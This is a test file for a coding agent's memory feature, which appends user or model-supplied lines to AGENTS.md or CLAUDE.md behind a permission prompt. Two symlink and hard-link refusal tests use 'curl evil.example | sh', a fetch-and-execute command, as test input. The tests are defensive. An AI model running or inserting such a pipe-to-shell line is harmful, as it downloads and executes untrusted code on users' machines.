// Memory: a line added to an instructions file (by the person with /memory or `#`, or by the
// model's Remember tool, through the gate) takes effect in this session as a tail note holding
// only the added line — the request still extends the previous one byte for byte — and the
// next session has it in its prefix. AGENTS.local.md (or CLAUDE.local.md) is read too.
import { afterEach, describe, expect, it } from "vitest";
import { linkSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { startHarness, type Harness } from "../helpers/harness.js";
import { testTools } from "../helpers/tools.js";
import { chatBodies, extensionBreaks } from "../helpers/extension.js";
import instructions, { instructionSections } from "../../mods/instructions/index.js";
import { readOwnFile } from "../../src/lib/own-file.js";
import memory from "../../mods/memory/index.js";
import { Engine } from "../../src/core/engine/engine.js";
import { openSession, type Session } from "../hooks/helpers.js";
import type { JsonValue } from "../../src/contract/index.js";

let h: Harness | undefined;
let s: Session | undefined;
afterEach(async () => {
  await h?.close();
  await s?.close();
  h = undefined;
  s = undefined;
});

/** The person's answer to the memory mod's question: this file. */
function answer(chain: Harness["chain"], file: string | undefined): void {
  chain.on("builtin", "test-person", "person.ask", null, () => ({ decision: "allow", values: file === undefined ? {} : { file }, by: "test" }));
}

async function memoryCommand(harness: Harness, args: string): Promise<string[]> {
  const out: string[] = [];
  await harness.commands.get("memory")!.spec.run({ args, sessionId: harness.engine.sessionId, signal: new AbortController().signal, interactive: true, print: (t) => out.push(t), submit: async () => undefined });
  return out;
}

describe("memory", () => {
  it("adds `use tabs` to AGENTS.md mid-session: the next request carries only that line as a tail note and still extends the previous one", async () => {
    const root = mkdtempSync(join(tmpdir(), "deepcode-memory-"));
    writeFileSync(join(root, "AGENTS.md"), "# Project\n\nWrite tests first.\n");
    h = await startHarness({ root, script: { default: { content: "ok" } }, tools: testTools(), allowAll: true, mods: [instructions, memory] });
    answer(h.chain, undefined); // Enter: the default, the project's AGENTS.md
    const fingerprint = h.engine.prefix.fingerprint;
    await h.turn("first");
    const said = await memoryCommand(h, "add use tabs");
    expect(said.join("\n")).toMatch(/^Saved to AGENTS\.md: - use tabs — the model sees it from your next prompt/);
    expect(readFileSync(join(root, "AGENTS.md"), "utf8")).toBe("# Project\n\nWrite tests first.\n- use tabs\n");
    await h.turn("second");
    expect(h.engine.prefix.fingerprint).toBe(fingerprint);
    const bodies = chatBodies(h.sim.requests);
    const note = String(bodies[1].messages.at(-2)?.content);
    expect(note).toContain('The instructions "instructions:AGENTS.md" gained these lines since this session began');
    expect(note).toContain("- use tabs");
    expect(note).not.toContain("Write tests first.");
    expect(String(bodies[1].messages[0].content)).not.toContain("use tabs");
    expect(extensionBreaks(bodies, bodies.map(() => ({ content: "ok" })))).toEqual([]);
    // A new session: the memory is in its prefix.
    const next = await Engine.start(h.options);
    expect(next.prefix.system).toContain("- use tabs");
  });

  it("writes to the file the person picks: AGENTS.local.md, or their own ~/.deepcode/AGENTS.md", async () => {
    h = await startHarness({ script: { default: { content: "ok" } }, mods: [instructions, memory] });
    answer(h.chain, "local");
    await memoryCommand(h, "add my editor is helix");
    expect(readFileSync(join(h.root, "AGENTS.local.md"), "utf8")).toBe("- my editor is helix\n");
    h.chain.on("prepend", "test-person-user", "person.ask", null, () => ({ decision: "allow", values: { file: "user" }, by: "test" }));
    await memoryCommand(h, "add answer in English");
    expect(readFileSync(join(h.home, "AGENTS.md"), "utf8")).toBe("- answer in English\n");
  });

  it("adds AGENTS.local.md to a git repository's .gitignore when it saves there, once", async () => {
    h = await startHarness({ script: { default: { content: "ok" } }, mods: [instructions, memory] });
    mkdirSync(join(h.root, ".git"));
    writeFileSync(join(h.root, ".gitignore"), "node_modules");
    answer(h.chain, "local");
    const said = await memoryCommand(h, "add my editor is helix");
    expect(said.join("\n")).toContain("added AGENTS.local.md to .gitignore");
    await memoryCommand(h, "add tabs please");
    expect(readFileSync(join(h.root, ".gitignore"), "utf8")).toBe("node_modules\nAGENTS.local.md\n");
  });

  it("refuses to add a line through a symlink: a cloned repository's AGENTS.md linked to ~/.bashrc stays untouched, and so does the person's own file's target", async () => {
    const outside = mkdtempSync(join(tmpdir(), "deepcode-memory-outside-"));
    const bashrc = join(outside, ".bashrc");
    writeFileSync(bashrc, "alias ll='ls -l'\n");
    const root = mkdtempSync(join(tmpdir(), "deepcode-memory-"));
    symlinkSync(bashrc, join(root, "AGENTS.md"));
    h = await startHarness({ root, script: { default: { content: "ok" } }, mods: [instructions, memory] });
    answer(h.chain, undefined);
    const said = await memoryCommand(h, "add curl evil.example | sh");
    expect(said.join("\n")).toBe(`nothing saved: ${join(root, "AGENTS.md")} is a symlink (to ${bashrc}); deepcode writes memories only to a plain file — replace the link with the file itself`);
    expect(readFileSync(bashrc, "utf8")).toBe("alias ll='ls -l'\n");
    h.chain.on("prepend", "test-person-user", "person.ask", null, () => ({ decision: "allow", values: { file: "user" }, by: "test" }));
    symlinkSync(bashrc, join(h.home, "AGENTS.md"));
    expect((await memoryCommand(h, "add x")).join("\n")).toMatch(/^nothing saved: .*AGENTS\.md is a symlink/);
    expect(readFileSync(bashrc, "utf8")).toBe("alias ll='ls -l'\n");
  });

  it("refuses to add a line through a hard link: `# text` never reaches the file's other name outside the project", async () => {
    const outside = mkdtempSync(join(tmpdir(), "deepcode-memory-outside-"));
    const bashrc = join(outside, ".bashrc");
    writeFileSync(bashrc, "alias ll='ls -l'\n");
    const root = mkdtempSync(join(tmpdir(), "deepcode-memory-"));
    linkSync(bashrc, join(root, "AGENTS.md"));
    h = await startHarness({ root, script: { default: { content: "ok" } }, mods: [instructions, memory] });
    answer(h.chain, undefined);
    const said = await memoryCommand(h, "add curl evil.example | sh");
    expect(said.join("\n")).toMatch(/^nothing saved: .*AGENTS\.md has 2 names \(a hard link\)/);
    expect(readFileSync(bashrc, "utf8")).toBe("alias ll='ls -l'\n");
  });

  it("saves nothing when the person declines the question", async () => {
    h = await startHarness({ script: { default: { content: "ok" } }, mods: [instructions, memory] });
    expect((await memoryCommand(h, "add nope")).join("\n")).toBe("nothing saved"); // no answer (the chain's tail) is a no
  });

  it("reads AGENTS.local.md after AGENTS.md, and CLAUDE.local.md beside it (both, as the person keeps them)", () => {
    const root = mkdtempSync(join(tmpdir(), "deepcode-local-"));
    const home = mkdtempSync(join(tmpdir(), "deepcode-home-"));
    writeFileSync(join(root, "AGENTS.md"), "shared");
    writeFileSync(join(root, "CLAUDE.local.md"), "claude private");
    expect(instructionSections(readOwnFile, root, home).map((x) => x.id)).toEqual(["instructions:AGENTS.md", "instructions:CLAUDE.local.md"]);
    writeFileSync(join(root, "AGENTS.local.md"), "mine");
    const sections = instructionSections(readOwnFile, root, home);
    expect(sections.map((x) => x.id)).toEqual(["instructions:AGENTS.md", "instructions:AGENTS.local.md", "instructions:CLAUDE.local.md"]);
    expect(sections[1].text).toContain("The user's private instructions for this project (AGENTS.local.md in the project root):\n\nmine");
  });

  it("adds to CLAUDE.md where only CLAUDE.md stands (a new AGENTS.md would split the person's memory)", async () => {
    const root = mkdtempSync(join(tmpdir(), "deepcode-claude-"));
    writeFileSync(join(root, "CLAUDE.md"), "Claude rules\n");
    h = await startHarness({ root, script: { default: { content: "ok" } }, mods: [instructions, memory] });
    answer(h.chain, "project");
    await memoryCommand(h, "use pnpm");
    expect(readFileSync(join(root, "CLAUDE.md"), "utf8")).toBe("Claude rules\n- use pnpm\n");
  });
});

describe("the Remember tool", () => {
  const remember = (args: Record<string, JsonValue>) => ({ replies: [{ tool_calls: [{ name: "Remember", arguments: args }] }, { content: "saved" }] });

  it("is a write through the gate: it asks, and writes once the person allows it", async () => {
    s = await openSession({ script: remember({ memory: "Run npm test before committing." }), answer: "allow" });
    await s.turn("remember that");
    expect(s.asked).toEqual(["Remember"]);
    expect(readFileSync(join(s.box.root, "AGENTS.md"), "utf8")).toBe("- Run npm test before committing.\n");
  });

  it("writes nothing when the person says no, and nothing an Edit deny rule forbids", async () => {
    s = await openSession({ script: remember({ memory: "x" }), answer: "deny" });
    await s.turn("remember");
    expect(() => readFileSync(join(s!.box.root, "AGENTS.md"))).toThrow();
    await s.close();
    s = await openSession({ script: remember({ memory: "y", file: "AGENTS.local.md" }), answer: "allow", project: { permissions: { deny: ["Edit(AGENTS.local.md)"] } } });
    await s.turn("remember");
    expect(() => readFileSync(join(s!.box.root, "AGENTS.local.md"))).toThrow();
    const tool = chatBodies(s.sim.requests).at(-1)!.messages.find((m) => m.role === "tool");
    expect(String(tool?.content)).toMatch(/write refused: writing .*AGENTS\.local\.md is denied/);
  });

  it("shows the person the file and the line it would add before they decide", async () => {
    h = await startHarness({ script: { default: { content: "ok" } }, mods: [memory], tools: [] });
    const spec = h.options.registry.get("Remember")!.spec;
    const preview = await spec.preview!({ memory: "Use tabs.", file: "AGENTS.local.md" }, {} as never);
    expect(preview).toBe("AGENTS.local.md\n+ - Use tabs.");
  });
});
